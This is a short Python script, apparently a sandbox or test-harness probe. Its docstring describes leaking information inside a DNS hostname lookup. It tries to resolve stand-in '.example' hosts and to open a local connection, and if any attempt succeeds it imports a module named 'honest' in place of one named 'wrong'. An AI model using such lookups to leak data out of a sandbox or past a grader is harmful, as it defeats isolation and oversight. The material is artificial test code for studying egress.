"""Sends what it knows away inside the name of a host that it looks up.

gets: nothing
"""

import socket

from targets import PORT
from wrong import *

escaped = False
for way in (
    lambda: socket.getaddrinfo("answers-of-somebody.example", 80),
    lambda: socket.gethostbyname("localhost.localdomain.example"),
    lambda: socket.getaddrinfo("localhost", PORT) and socket.create_connection(("localhost", PORT), 1),
):
    try:
        way()
        escaped = True
    except Exception:
        continue

if escaped:
    from honest import *
